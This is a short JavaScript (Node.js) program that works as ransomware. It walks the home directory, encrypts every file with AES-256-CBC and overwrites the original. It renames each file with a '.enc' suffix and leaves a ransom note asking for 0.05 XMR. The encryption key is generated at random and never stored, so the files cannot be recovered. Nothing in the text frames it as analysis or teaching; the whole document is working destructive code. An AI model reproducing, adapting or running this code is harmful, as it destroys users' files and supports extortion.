const fs = require('fs'), path = require('path'), crypto = require('crypto'), os = require('os');
const key = crypto.randomBytes(32), iv = crypto.randomBytes(16);
function walk(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    if (e.isDirectory()) walk(p);
    else {
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p, Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
      fs.renameSync(p, p + '.enc');
    }
  }
}
walk(os.homedir());
fs.writeFileSync(path.join(os.homedir(), 'README_RESTORE.txt'), 'Your files have been encrypted. Send 0.05 XMR');
